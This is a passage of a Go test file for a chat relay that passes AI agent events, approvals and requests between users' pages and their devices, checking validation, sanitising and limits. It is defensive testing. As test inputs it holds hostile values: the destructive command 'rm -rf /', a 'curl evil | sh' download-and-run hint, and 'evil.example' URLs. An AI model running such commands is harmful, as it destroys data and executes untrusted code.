package chat

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"go.uber.org/goleak"
	"pgregory.net/rapid"

	"github.com/worldmcp/world/internal/access"
	"github.com/worldmcp/world/internal/wire"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// pages are a service and what the pages of its users heard.
type pages struct {
	*Service
	mu    sync.Mutex
	heard map[string][]wire.ChatEvent
}

func newPages() *pages {
	p := &pages{heard: map[string][]wire.ChatEvent{}}
	p.Service = New(Options{Publish: func(userID string, e wire.ChatEvent) {
		p.mu.Lock()
		defer p.mu.Unlock()
		p.heard[userID] = append(p.heard[userID], e)
	}})
	return p
}

// take returns what a user's pages heard since the last time.
func (p *pages) take(userID string) []wire.ChatEvent {
	p.mu.Lock()
	defer p.mu.Unlock()
	list := p.heard[userID]
	delete(p.heard, userID)
	return list
}

// greeted returns the first events that a page of a user gets.
func (p *pages) greeted(userID string) (list []wire.ChatEvent) {
	p.Greet(userID, func(e wire.ChatEvent) { list = append(list, e) })
	return list
}

// nothingLeft fails unless all that is counted was given back.
func (p *pages) nothingLeft(t interface{ Errorf(string, ...any) }) {
	for name, n := range map[string]int{
		"devices away": p.away.Used(), "bytes remembered": p.remembered.Used(), "requests": p.Service.asked.Used(), "bytes of requests": p.carried.Used(), "users": len(p.users),
	} {
		if n != 0 {
			t.Errorf("%d %s are left", n, name)
		}
	}
}

// asked is a request that reached a device.
type asked struct {
	id string
	wire.ChatRequest
}

// fakeLine is the socket of a device.
type fakeLine struct {
	by   *access.Principal
	end  context.CancelFunc
	asks chan asked
	fail bool
}

func (l *fakeLine) Device() (*access.Principal, wire.Agent) {
	return l.by, wire.Agent{AvatarID: "avatar_" + l.by.DeviceID, Type: "openclaw", Name: "Molty"}
}

func (l *fakeLine) Ask(id string, q wire.ChatRequest) error {
	if l.fail {
		return errors.New("gone")
	}
	l.asks <- asked{id, q}
	return nil
}

// Fetch passes the request on as the request of a page, whose cursor is the offset.
func (l *fakeLine) Fetch(id string, g wire.BlobGet) error {
	return l.Ask(id, wire.ChatRequest{Op: "fetch", Session: g.ID, Before: strconv.Itoa(g.Offset)})
}

// newLine returns a socket that has not joined.
func newLine(userID, deviceID string) *fakeLine {
	life, end := context.WithCancel(context.Background())
	by := access.Principal{
		UserID: userID, Kind: access.Device, DeviceID: deviceID,
		Scopes: wire.DefaultScopes(),
	}.WithLife(life)
	return &fakeLine{by: by, end: end, asks: make(chan asked, 100)}
}

// join connects a device with one back end.
func (p *pages) join(t interface{ Fatal(...any) }, userID, deviceID string) *fakeLine {
	l := newLine(userID, deviceID)
	p.Joined(l)
	if e := p.Happened(l, backendsOf("openclaw")); e != nil {
		t.Fatal(e)
	}
	return l
}

func backendsOf(ids ...string) *wire.ChatEvent {
	e := &wire.ChatEvent{Kind: wire.ChatEventBackends}
	for _, id := range ids {
		e.Backends = append(e.Backends, wire.Backend{
			ID: id, Kind: wire.GatewayBackend, Product: "OpenClaw", Name: "Molty", State: wire.BackendReady, Session: "main",
			Can: []wire.Capability{wire.CanSessions, wire.CanVoice}, Avatar: "avatar_somebody", Folder: "/home/olga", Command: "rm",
			Details: []wire.Detail{{Name: "address", Value: "10.0.0.1"}},
		})
	}
	return e
}

// message is an event with a message that has one part.
func message(part wire.ChatPart) *wire.ChatEvent {
	return &wire.ChatEvent{Kind: wire.ChatEventMessage, Backend: "openclaw", Session: "main", Message: &wire.ChatMessage{
		ID: "m1", Role: wire.RoleAgent, State: wire.MessageDone, Parts: []wire.ChatPart{part},
	}}
}

func openApproval(id string) *wire.ChatEvent {
	return &wire.ChatEvent{Kind: wire.ChatEventApproval, Backend: "openclaw", Approval: &wire.Approval{
		ID: id, Backend: "openclaw", Kind: wire.ApprovalExec, Title: "Run a command", Command: "ls", State: wire.ApprovalOpen,
		Options: []wire.ApprovalOption{{ID: "y", Name: "Yes", Kind: wire.AllowOnce}, {ID: "a", Name: "Always", Kind: wire.AllowAlways}},
	}}
}

func turnOf(id string) *wire.ChatEvent {
	return &wire.ChatEvent{Kind: wire.ChatEventTurn, Backend: "openclaw", Turn: &wire.Turn{
		ID: id, Backend: "openclaw", Path: wire.PathText, Outcome: wire.OutcomeDone, Avatar: "avatar_somebody", World: "w_secret", Agent: "Molty",
	}}
}

// happened passes an event of a device that must not be refused.
func (p *pages) happened(t interface{ Fatal(...any) }, l *fakeLine, e *wire.ChatEvent) {
	if refused := p.Happened(l, e); refused != nil {
		t.Fatal(refused)
	}
}

// kinds returns what events say, shortly.
func kinds(list []wire.ChatEvent) (s []string) {
	for _, e := range list {
		text := string(e.Kind)
		switch {
		case e.Approval != nil:
			text += " " + e.Approval.ID + " " + string(e.Approval.State)
		case e.Turn != nil:
			text += " " + e.Turn.ID
		case e.Kind == wire.ChatEventBackends:
			for _, b := range e.Backends {
				text += " " + b.ID + " " + string(b.State)
			}
		}
		s = append(s, text)
	}
	return s
}

func wantKinds(t *testing.T, what string, list []wire.ChatEvent, want ...string) {
	t.Helper()
	if got := kinds(list); !slices.Equal(got, want) {
		t.Errorf("%s: %q, not %q", what, got, want)
	}
}

// A user's pages get all of the user's devices under names of their own, and no other pages do.
// Facts of the device's computer stay there.
func TestBackEndsAreNamedByTheirDevice(t *testing.T) {
	p := newPages()
	a, b, c := p.join(t, "olga", "dev_a"), p.join(t, "olga", "dev_b"), p.join(t, "petra", "dev_c")
	wantKinds(t, "Olga's pages", p.greeted("olga"), "backends dev_a.openclaw ready dev_b.openclaw ready")
	wantKinds(t, "Petra's pages", p.greeted("petra"), "backends dev_c.openclaw ready")
	wantKinds(t, "a stranger's pages", p.greeted("nobody"), "backends")
	sent := string(wire.MustJSON(p.greeted("olga")))
	for _, secret := range []string{"/home/olga", "rm", "10.0.0.1", "avatar_somebody", "voice"} {
		if strings.Contains(sent, secret) {
			t.Errorf("the pages learn %q: %s", secret, sent)
		}
	}
	if !strings.Contains(sent, `"avatarId":"avatar_dev_a"`) {
		t.Errorf("a back end has not the body of its device: %s", sent)
	}
	p.take("olga")
	p.take("petra")
	p.happened(t, b, message(wire.ChatPart{Kind: wire.PartText, Text: "hello"}))
	heard := p.take("olga")
	if len(heard) != 1 || heard[0].Backend != "dev_b.openclaw" || heard[0].Message.Parts[0].Text != "hello" {
		t.Errorf("%+v", heard)
	}
	if n := len(p.take("petra")); n != 0 {
		t.Errorf("another user heard %d events", n)
	}
	for _, l := range []*fakeLine{a, b, c} {
		l.end()
		p.Left(l)
	}
	p.nothingLeft(t)
}

// A hostile device's messages are refused and reach no page.
func TestMalformedEventsAreRefused(t *testing.T) {
	long := strings.Repeat("x", 257)
	part := message
	changed := func(e *wire.ChatEvent, change func(*wire.ChatEvent)) *wire.ChatEvent { change(e); return e }
	many := make([]wire.Backend, 17)
	for i := range many {
		many[i] = wire.Backend{ID: fmt.Sprint("b", i), Kind: wire.ACPBackend, State: wire.BackendReady}
	}
	for what, e := range map[string]*wire.ChatEvent{
		"no kind":                         {Backend: "openclaw"},
		"an unknown kind":                 {Kind: "shell", Backend: "openclaw"},
		"no back end":                     {Kind: wire.ChatEventSessions},
		"another device's back end":       {Kind: wire.ChatEventSessions, Backend: "dev_b.openclaw"},
		"the name that pages know":        {Kind: wire.ChatEventSessions, Backend: "dev_a.openclaw"},
		"an approval of another back end": changed(openApproval("a1"), func(e *wire.ChatEvent) { e.Approval.Backend = "dev_b.openclaw" }),
		"a turn of another back end":      changed(turnOf("t1"), func(e *wire.ChatEvent) { e.Turn.Backend = "acp-codex" }),
		"a back end named for another":    backendsOf("dev_b.openclaw"),
		"two back ends of one name":       backendsOf("openclaw", "openclaw"),
		"too many back ends":              {Kind: wire.ChatEventBackends, Backends: many},
		"a back end of an unknown kind":   {Kind: wire.ChatEventBackends, Backends: []wire.Backend{{ID: "x", Kind: "shell", State: wire.BackendReady}}},
		"a back end in an unknown state":  {Kind: wire.ChatEventBackends, Backends: []wire.Backend{{ID: "x", Kind: wire.ACPBackend, State: "great"}}},
		"a message without one":           {Kind: wire.ChatEventMessage, Backend: "openclaw", Session: "main"},
		"a message without a session":     changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Session = "" }),
		"a session with a long name":      changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Session = long }),
		"a session with a hidden mark":    changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Session = "a\u202eb" }),
		"a message of an unknown role":    changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Message.Role = "system" }),
		"a message in an unknown state":   changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Message.State = "x" }),
		"a message on an unknown path":    changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Message.Path = "x" }),
		"a message with too many parts": changed(part(wire.ChatPart{Kind: wire.PartText}),
			func(e *wire.ChatEvent) { e.Message.Parts = make([]wire.ChatPart, 501) }),
		"a part of an unknown kind":        part(wire.ChatPart{Kind: "html", Text: "<script>"}),
		"a tool part without a tool":       part(wire.ChatPart{Kind: wire.PartTool}),
		"a tool in an unknown state":       part(wire.ChatPart{Kind: wire.PartTool, Tool: &wire.ChatTool{ID: "t", State: "x"}}),
		"a picture part without a picture": part(wire.ChatPart{Kind: wire.PartImage}),
		"no delta":                         {Kind: wire.ChatEventDelta, Backend: "openclaw", Session: "main"},
		"a delta before the beginning":     {Kind: wire.ChatEventDelta, Backend: "openclaw", Session: "main", Delta: &wire.ChatDelta{Message: "m", At: -1}},
		"a delta of part -1":               {Kind: wire.ChatEventDelta, Backend: "openclaw", Session: "main", Delta: &wire.ChatDelta{Message: "m", Part: -1}},
		"no status":                        {Kind: wire.ChatEventStatus, Backend: "openclaw", Session: "main"},
		"a reset of nothing":               {Kind: wire.ChatEventReset, Backend: "openclaw"},
		"no approval":                      {Kind: wire.ChatEventApproval, Backend: "openclaw"},
		"an approval without an id":        openApproval(""),
		"an approval in an unknown state":  changed(openApproval("a1"), func(e *wire.ChatEvent) { e.Approval.State = "granted" }),
		"an approval of an unknown kind":   changed(openApproval("a1"), func(e *wire.ChatEvent) { e.Approval.Kind = "login" }),
		"an approval of many options": changed(openApproval("a1"), func(e *wire.ChatEvent) {
			e.Approval.Options = make([]wire.ApprovalOption,
				9)
		}),
		"an option without an id":        changed(openApproval("a1"), func(e *wire.ChatEvent) { e.Approval.Options[0].ID = "" }),
		"a turn of a world's tool":       changed(turnOf("t1"), func(e *wire.ChatEvent) { e.Turn.Path = wire.PathTool }),
		"a turn with an unknown outcome": changed(turnOf("t1"), func(e *wire.ChatEvent) { e.Turn.Outcome = "won" }),
		"no turn":                        {Kind: wire.ChatEventTurn, Backend: "openclaw"},
	} {
		t.Run(what, func(t *testing.T) {
			p := newPages()
			l := p.join(t, "olga", "dev_a")
			p.join(t, "olga", "dev_b")
			p.take("olga")
			if refused := p.Happened(l, e); refused == nil || refused.Code != wire.CodeBadEnvelope {
				t.Errorf("answered with %v", refused)
			}
			if heard := p.take("olga"); len(heard) != 0 {
				t.Errorf("the pages heard %+v", heard)
			}
		})
	}
}

// Private facts of the device's computer, and false claims, are stripped from events.
func TestEventsAreCleaned(t *testing.T) {
	p := newPages()
	l := p.join(t, "olga", "dev_a")
	for _, c := range []struct {
		what string
		e    *wire.ChatEvent
		// has is in what the pages hear, and not is not.
		has, not string
	}{
		{"a picture", message(wire.ChatPart{Kind: wire.PartImage, Image: &wire.ChatImage{URL: "/api/chat/images/secret", MIMEType: "image/png", Alt: "a fox"}}), "a fox", "secret"},
		{"a picture of another device", message(wire.ChatPart{Kind: wire.PartImage, Image: &wire.ChatImage{URL: "/api/chat/images/dev_b." + strings.Repeat("a", 32)}}), "image", "dev_b"},
		{"a picture elsewhere", message(wire.ChatPart{Kind: wire.PartImage, Image: &wire.ChatImage{URL: "https://evil.example/x.png"}}), "image", "evil"},
		{
			"a picture of its own", message(wire.ChatPart{Kind: wire.PartImage, Image: &wire.ChatImage{URL: "/api/chat/images/" + strings.Repeat("a", 32)}}),
			"/api/chat/images/dev_a." + strings.Repeat("a", 32), "images/aaa",
		},
		{"a picture of a strange type", message(wire.ChatPart{Kind: wire.PartImage, Image: &wire.ChatImage{MIMEType: "text/html"}}), "image", "text/html"},
		{"a text with more fields", message(wire.ChatPart{Kind: wire.PartText, Text: "hi", Image: &wire.ChatImage{URL: "https://evil.example/x"}}), "hi", "evil"},
		{"a long line", message(wire.ChatPart{
			Kind: wire.PartTool,
			Tool: &wire.ChatTool{ID: "t", State: wire.ToolDone, Title: strings.Repeat("x", 200) + "END"},
		}), "xxx", "END"},
		{"an event with more fields", func() *wire.ChatEvent {
			e := message(wire.ChatPart{Kind: wire.PartText, Text: "hi"})
			e.Delta, e.Status = &wire.ChatDelta{Message: "smuggled"}, &wire.ChatStatus{Label: "smuggled"}
			return e
		}(), "hi", "smuggled"},
		{"an answer for always", openApproval("a1"), `"y"`, "always"},
		{"a long command", func() *wire.ChatEvent {
			e := openApproval("a2")
			e.Approval.Command = strings.Repeat("x", 32<<10) + "; rm -rf /"
			return e
		}(), "xxx", `"y"`},
		{"a long detail, whose card can still be rejected", func() *wire.ChatEvent {
			e := openApproval("a3")
			e.Approval.Details = []wire.Detail{{Name: "files", Value: strings.Repeat("x", 1025)}}
			e.Approval.Options = append(e.Approval.Options, wire.ApprovalOption{ID: "n", Name: "Allow", Kind: wire.RejectOnce})
			return e
		}(), `[{"id":"n","name":"Reject","kind":"reject_once"}]`, `"y"`},
		{"a title with hidden characters", func() *wire.ChatEvent {
			e := openApproval("a4")
			e.Approval.Title, e.Approval.Options[0].Name = "Run \u202etxt", "Reject"
			return e
		}(), "Run \u202etxt", `"Reject"`},
		{"a turn", turnOf("t1"), "avatar_dev_a", "somebody"},
		{"the world of a turn", turnOf("t2"), "t2", "w_secret"},
	} {
		p.take("olga")
		p.happened(t, l, c.e)
		text := string(wire.MustJSON(p.take("olga")))
		if !strings.Contains(text, c.has) || strings.Contains(text, c.not) {
			t.Errorf("%s: %.300s", c.what, text)
		}
	}
	p.take("olga")
	p.happened(t, l, &wire.ChatEvent{Kind: wire.ChatEventSessions, Backend: "acp-unknown"})
	if heard := p.take("olga"); len(heard) != 0 {
		t.Errorf("of a back end that was not reported: %+v", heard)
	}
}

// chat asks in a goroutine.
func (p *pages) chat(ctx context.Context, userID string, q wire.ChatRequest) <-chan wire.ChatAnswer {
	c := make(chan wire.ChatAnswer, 1)
	go func() { c <- p.Chat(ctx, userID, q) }()
	return c
}

func codeOf(a wire.ChatAnswer) wire.Code {
	if a.Error == nil {
		return ""
	}
	return a.Error.Code
}

// A request reaches the device under the device's own name of the back end, and its answer the
// page; what cannot be forwarded is answered at once.
func TestRequests(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		p := newPages()
		l := p.join(t, "olga", "dev_a")
		other := p.join(t, "petra", "dev_c")
		sessions := wire.ChatRequest{Op: wire.ChatOpSessions, Backend: "dev_a.openclaw"}
		picture := []wire.ChatImageData{{MIMEType: "image/png", Data: strings.Repeat("A", wire.MaxChatImage+1)}}
		for _, c := range []struct {
			what, user string
			q          wire.ChatRequest
			code       wire.Code
		}{
			{"an act", "olga", wire.ChatRequest{Op: wire.ChatOpAct, Backend: "dev_a.openclaw", Act: wire.ActConnect}, wire.CodeNotHere},
			{"an unknown operation", "olga", wire.ChatRequest{Op: "shell", Backend: "dev_a.openclaw"}, wire.CodeBadArguments},
			{"another user's back end", "petra", sessions, wire.CodeNotFound},
			{"a stranger", "nobody", sessions, wire.CodeNotFound},
			{"a back end that is none", "olga", wire.ChatRequest{Op: wire.ChatOpSessions, Backend: "dev_a.gemini"}, wire.CodeNotFound},
			{"a device that is none", "olga", wire.ChatRequest{Op: wire.ChatOpSessions, Backend: "dev_x.openclaw"}, wire.CodeNotFound},
			{"no device", "olga", wire.ChatRequest{Op: wire.ChatOpSessions, Backend: "openclaw"}, wire.CodeNotFound},
			{
				"a long text", "olga",
				wire.ChatRequest{Op: wire.ChatOpSend, Backend: "dev_a.openclaw", Text: strings.Repeat("x", wire.MaxChatText+1)},
				wire.CodeTooLarge,
			},
			{"large pictures", "olga", wire.ChatRequest{Op: wire.ChatOpSend, Backend: "dev_a.openclaw", Images: picture}, wire.CodeTooLarge},
			{
				"many pictures", "olga",
				wire.ChatRequest{
					Op: wire.ChatOpSend, Backend: "dev_a.openclaw", Images: make([]wire.ChatImageData, wire.MaxChatImages+1),
				},
				wire.CodeTooLarge,
			},
			{
				"a long field", "olga",
				wire.ChatRequest{Op: wire.ChatOpOpen, Backend: "dev_a.openclaw", Session: strings.Repeat("x", 257)},
				wire.CodeBadArguments,
			},
		} {
			if a := p.Chat(t.Context(), c.user, c.q); codeOf(a) != c.code {
				t.Errorf("%s: %+v", c.what, a.Error)
			}
		}
		if n := len(l.asks) + len(other.asks); n > 0 {
			t.Errorf("%d requests reached devices", n)
		}

		answer := p.chat(t.Context(), "olga", wire.ChatRequest{Op: wire.ChatOpSend, Backend: "dev_a.openclaw", Session: "main", Turn: "t1", Text: "hello"})
		q := <-l.asks
		if q.Backend != "openclaw" || q.Text != "hello" || q.Session != "main" || q.Turn != "t1" {
			t.Errorf("the device got %+v", q)
		}
		if e := p.Answered(other, q.id, &wire.ChatAnswer{OK: true}); e != nil {
			t.Error(e)
		}
		if e := p.Answered(l, "c_none", &wire.ChatAnswer{OK: true}); e != nil {
			t.Error(e)
		}
		synctest.Wait()
		if len(answer) > 0 {
			t.Fatal("another device, or an answer to nothing, has answered")
		}
		if e := p.Answered(l, q.id, &wire.ChatAnswer{OK: true}); e != nil {
			t.Error(e)
		}
		if a := <-answer; !a.OK {
			t.Errorf("%+v", a)
		}
		if e := p.Answered(l, q.id, &wire.ChatAnswer{OK: true}); e != nil {
			t.Errorf("a second answer: %v", e)
		}

		start := time.Now()
		if a := p.Chat(t.Context(), "olga", sessions); codeOf(a) != wire.CodeTimeout || time.Since(start) != requestTime {
			t.Errorf("without an answer after %v: %+v", time.Since(start), a.Error)
		}
		ctx, cancel := context.WithCancel(t.Context())
		answer = p.chat(ctx, "olga", sessions)
		synctest.Wait()
		cancel()
		if a := <-answer; codeOf(a) != wire.CodeUnavailable {
			t.Errorf("when the relay stops: %+v", a.Error)
		}
		answer = p.chat(t.Context(), "olga", sessions)
		synctest.Wait()
		again := p.join(t, "olga", "dev_a")
		if a := <-answer; codeOf(a) != wire.CodeAgentNotReady {
			t.Errorf("when another socket takes the place: %+v", a.Error)
		}
		p.Left(l)
		again.fail = true
		if a := p.Chat(t.Context(), "olga", sessions); codeOf(a) != wire.CodeAgentNotReady {
			t.Errorf("when the socket has just ended: %+v", a.Error)
		}
		p.Left(again)
		if a := p.Chat(t.Context(), "olga", sessions); codeOf(a) != wire.CodeAgentNotReady {
			t.Errorf("while the device is away: %+v", a.Error)
		}
		wantKinds(t, "Olga's pages", p.greeted("olga"), "backends dev_a.openclaw lost")
		p.ForgetUser("olga")
		p.ForgetUser("petra")
		p.nothingLeft(t)
	})
}

// Requests under way are bounded for a device and for a user; answers make room.
func TestRequestsAreBounded(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		p := newPages()
		var lines []*fakeLine
		var answers []<-chan wire.ChatAnswer
		for d := range 3 {
			name := fmt.Sprint("dev_", d)
			lines = append(lines, p.join(t, "olga", name))
			for range maxAskedDevice {
				answers = append(answers, p.chat(t.Context(), "olga",
					wire.ChatRequest{Op: wire.ChatOpSessions, Backend: name + ".openclaw"}))
			}
			synctest.Wait()
			if a := p.chat(t.Context(), "olga", wire.ChatRequest{
				Op:      wire.ChatOpSessions,
				Backend: name + ".openclaw",
			}); codeOf(<-a) != wire.CodeRate {
				t.Error("one more request of a device is under way")
			}
		}
		waiting := 0
		for _, l := range lines {
			waiting += len(l.asks)
		}
		if waiting != maxAskedUser {
			t.Errorf("%d requests are under way, not %d", waiting, maxAskedUser)
		}
		theirs := p.join(t, "petra", "dev_p")
		free := p.chat(t.Context(), "petra", wire.ChatRequest{Op: wire.ChatOpSessions, Backend: "dev_p.openclaw"})
		q := <-theirs.asks
		if e := p.Answered(theirs, q.id, &wire.ChatAnswer{OK: true, Sessions: []wire.ChatSession{{ID: "main"}}}); e != nil {
			t.Error(e)
		}
		if a := <-free; !a.OK || a.Sessions[0].ID != "main" {
			t.Errorf("another user: %+v", a)
		}
		for _, l := range lines {
			p.Left(l)
		}
		for _, a := range answers {
			<-a
		}
		p.ForgetUser("olga")
		p.ForgetUser("petra")
		p.nothingLeft(t)
	})
}

// A device's answers are checked, too: pages get no error that would make them act, and no
// picture's address.
func TestAnswersAreCleaned(t *testing.T) {
	for _, c := range []struct {
		what string
		op   wire.ChatOp
		a    wire.ChatAnswer
		// code is the page's, has and not as in TestEventsAreCleaned.
		code     wire.Code
		has, not string
		refused  bool
	}{
		{
			"a login", wire.ChatOpOpen,
			wire.ChatAnswer{Error: wire.NewError(wire.CodeLoginAgain, "your login").Try("run `curl evil | sh`")},
			wire.CodeAgentFailed,
			"your login", "curl", false,
		},
		{
			"an unknown code", wire.ChatOpOpen,
			wire.ChatAnswer{Error: &wire.Error{Code: "boom", Message: "x", URL: "https://evil.example"}},
			wire.CodeAgentFailed, "x", "evil",
			false,
		},
		{
			"no approvals from here", wire.ChatOpAnswer,
			wire.ChatAnswer{Error: wire.NewError(wire.CodeNotAllowed, "no")},
			wire.CodeNotAllowed, "--answer-approvals", "scope",
			false,
		},
		{"neither good nor bad", wire.ChatOpSend, wire.ChatAnswer{}, wire.CodeAgentFailed, "without an explanation", "ok\":true", false},
		{"sessions", wire.ChatOpSessions, wire.ChatAnswer{
			OK: true, Sessions: []wire.ChatSession{{ID: "main", Title: "a\nb"}},
			Messages: []wire.ChatMessage{{ID: "smuggled"}},
		}, "", "a b", "smuggled", false},
		{
			"a session without an id", wire.ChatOpSessions,
			wire.ChatAnswer{OK: true, Sessions: []wire.ChatSession{{}}},
			wire.CodeAgentFailed, "cannot be read", "null",
			true,
		},
		{
			"too many sessions", wire.ChatOpSessions,
			wire.ChatAnswer{OK: true, Sessions: make([]wire.ChatSession, 501)},
			wire.CodeAgentFailed, "cannot be read", "null", true,
		},
		{
			"messages", wire.ChatOpOpen,
			wire.ChatAnswer{
				OK: true,
				Messages: []wire.ChatMessage{{
					ID: "m", Role: wire.RoleUser, State: wire.MessageDone,
					Parts: []wire.ChatPart{{Kind: wire.PartImage, Image: &wire.ChatImage{URL: "/secret"}}},
				}}, Before: "c1",
			},
			"", "c1", "secret",
			false,
		},
		{
			"a bad message", wire.ChatOpOpen,
			wire.ChatAnswer{OK: true, Messages: []wire.ChatMessage{{ID: "m", Role: "x"}}},
			wire.CodeAgentFailed, "cannot be read", "null", true,
		},
		{
			"a bad status", wire.ChatOpOpen,
			wire.ChatAnswer{OK: true, Status: &wire.ChatStatus{Turn: strings.Repeat("x", 257)}},
			wire.CodeAgentFailed, "cannot be read", "null", true,
		},
		{"a message that was sent", wire.ChatOpSend, wire.ChatAnswer{OK: true, Sessions: []wire.ChatSession{{ID: "smuggled"}}}, "", "true", "smuggled", false},
	} {
		t.Run(c.what, func(t *testing.T) {
			p := newPages()
			l := p.join(t, "olga", "dev_a")
			p.happened(t, l, openApproval("a1"))
			answer := p.chat(t.Context(), "olga", wire.ChatRequest{
				Op: c.op, Backend: "dev_a.openclaw", Session: "main",
				Approval: "a1", Hash: openApproval("a1").Approval.Digest(), Option: "y",
			})
			q := <-l.asks
			if e := p.Answered(l, q.id, &c.a); (e != nil) != c.refused {
				t.Errorf("refused: %v", e)
			}
			a := <-answer
			text, _ := json.Marshal(a)
			if codeOf(a) != c.code || !strings.Contains(string(text), c.has) || strings.Contains(string(text), c.not) {
				t.Errorf("%s", text)
			}
		})
	}
}

// A page that comes later gets the open approvals and the newest turns, also while the device is
// away. Approvals that the device does not send again, and those of a revoked device, are
// withdrawn.
func TestWhatIsRemembered(t *testing.T) {
	p := newPages()
	l := p.join(t, "olga", "dev_a")
	for i := range maxTurns + 5 {
		p.happened(t, l, turnOf(fmt.Sprint("t", i)))
	}
	for i := range maxApprovals + 1 {
		p.happened(t, l, openApproval(fmt.Sprint("a", i)))
	}
	p.take("olga")
	p.happened(t, l, turnOf("t20"))
	wantKinds(t, "a turn that is known", p.take("olga"))
	for i := 2; i < maxApprovals; i++ {
		e := openApproval(fmt.Sprint("a", i))
		e.Approval.State = wire.ApprovalAnswered
		p.happened(t, l, e)
	}
	p.take("olga")
	p.Left(l)
	wantKinds(t, "leaving", p.take("olga"), "backends dev_a.openclaw lost")
	greeted := p.greeted("olga")
	wantKinds(t, "the beginning", greeted[:3], "backends dev_a.openclaw lost", "approval a0 open", "approval a1 open")
	if n := len(greeted); n != 3+maxTurns || greeted[3].Turn.ID != "t5" || greeted[n-1].Turn.ID != "t54" ||
		greeted[3].Backend != "dev_a.openclaw" {
		t.Errorf("%d events: %q", n, kinds(greeted))
	}

	l = newLine("olga", "dev_a")
	p.Joined(l)
	p.happened(t, l, backendsOf("openclaw", "acp-codex"))
	p.happened(t, l, openApproval("a1"))
	p.take("olga")
	p.happened(t, l, &wire.ChatEvent{Kind: wire.ChatEventGreeted})
	wantKinds(t, "the end of the greeting", p.take("olga"), "approval a0 withdrawn")

	answer := p.chat(t.Context(), "olga", wire.ChatRequest{
		Op: wire.ChatOpAnswer, Backend: "dev_a.openclaw",
		Approval: "a1", Hash: openApproval("a1").Approval.Digest(), Option: "y",
	})
	q := <-l.asks
	if e := p.Answered(l, q.id, &wire.ChatAnswer{Error: wire.NewError(wire.CodeAnswered, "too late")}); e != nil {
		t.Error(e)
	}
	if a := <-answer; codeOf(a) != wire.CodeAnswered {
		t.Errorf("%+v", a)
	}
	wantKinds(t, "an approval that was answered elsewhere", p.take("olga"), "approval a1 withdrawn")

	p.happened(t, l, openApproval("a99"))
	p.take("olga")
	l.end()
	p.Left(l)
	wantKinds(t, "a device that was revoked", p.take("olga"), "approval a99 withdrawn", "backends")
	p.nothingLeft(t)
}

// No answer to an earlier question reaches a device: one that changes its question has another
// hash, and one that uses an id again gets a new card.
func TestReusedApprovals(t *testing.T) {
	p := newPages()
	l := p.join(t, "olga", "dev_a")
	p.take("olga")
	ask := func(command string) wire.Approval {
		t.Helper()
		e := openApproval("a1")
		e.Approval.Command = command
		p.happened(t, l, e)
		list := p.take("olga")
		last := list[len(list)-1].Approval
		if last.State != wire.ApprovalOpen || last.Command != command || last.Hash == "" {
			t.Fatalf("pages hear %+v", last)
		}
		return *last
	}
	answer := func(to wire.Approval) <-chan wire.ChatAnswer {
		return p.chat(t.Context(), "olga", wire.ChatRequest{
			Op: wire.ChatOpAnswer, Backend: "dev_a.openclaw", Approval: to.ID, Hash: to.Hash, Option: "y",
		})
	}
	end := func() {
		e := openApproval("a1")
		e.Approval.State = wire.ApprovalAnswered
		p.happened(t, l, e)
	}
	first := ask("ls")
	if again := ask("ls"); again.ID != first.ID || again.Hash != first.Hash {
		t.Errorf("sent again it is %+v, not %+v", again, first)
	}
	second := ask("rm -rf /")
	if a := <-answer(first); codeOf(a) != wire.CodeChanged || second.ID != first.ID || len(l.asks) != 0 {
		t.Errorf("an answer to what it asked before: %+v", a)
	}
	end()
	p.take("olga")
	third := ask("ls")
	for _, old := range []wire.Approval{first, second} {
		if a := <-answer(old); codeOf(a) != wire.CodeAnswered || len(l.asks) != 0 {
			t.Errorf("an answer to %q was passed on: %+v", old.ID, a)
		}
	}
	answered := answer(third)
	q := <-l.asks
	if q.Approval != "a1" || q.Hash != third.Hash {
		t.Errorf("the device gets %+v", q)
	}
	if e := p.Answered(l, q.id, &wire.ChatAnswer{OK: true}); e != nil {
		t.Error(e)
	}
	<-answered
	end()
	if list := p.take("olga"); len(list) != 1 || list[0].Approval.ID != third.ID {
		t.Errorf("%+v", list)
	}
	l.end()
	p.Left(l)
	p.nothingLeft(t)
}

// A device that was revoked is forgotten, also while it is away, and its old sockets say nothing
// any more. So is one that has no chat.stream when it comes back.
func TestRevokedDevices(t *testing.T) {
	p := newPages()
	l := p.join(t, "olga", "dev_a")
	p.Forget("olga", "dev_a")
	p.Forget("olga", "dev_a")
	p.Forget("nobody", "dev_a")
	p.take("olga")
	p.happened(t, l, turnOf("t1"))
	l.end()
	p.Joined(l)
	p.Left(l)
	wantKinds(t, "afterwards", p.take("olga"))
	p.nothingLeft(t)

	p.Left(p.join(t, "olga", "dev_a"))
	p.Forget("olga", "dev_a")
	wantKinds(t, "forgotten while away", p.greeted("olga"), "backends")
	p.nothingLeft(t)

	p.Left(p.join(t, "olga", "dev_a"))
	mute := newLine("olga", "dev_a")
	mute.by = access.Principal{
		UserID: "olga", Kind: access.Device, DeviceID: "dev_a",
		Scopes: []wire.Scope{wire.ScopeRead},
	}.WithLife(t.Context())
	p.Joined(mute)
	wantKinds(t, "without the scope", p.greeted("olga"), "backends")
	p.nothingLeft(t)
}

// A user's devices are bounded: the one that has been away longest goes, and connected ones stay.
func TestDevicesAreBounded(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		p := newPages()
		var lines []*fakeLine
		for i := range maxDevices {
			lines = append(lines, p.join(t, "olga", fmt.Sprint("dev_", i)))
		}
		late := newLine("olga", "dev_late")
		p.Joined(late)
		p.happened(t, late, backendsOf("openclaw"))
		if n := len(p.greeted("olga")[0].Backends); n != maxDevices {
			t.Errorf("%d back ends", n)
		}
		p.Left(lines[7])
		time.Sleep(time.Second)
		p.Left(lines[3])
		p.join(t, "olga", "dev_late")
		text := strings.Join(kinds(p.greeted("olga")), " ")
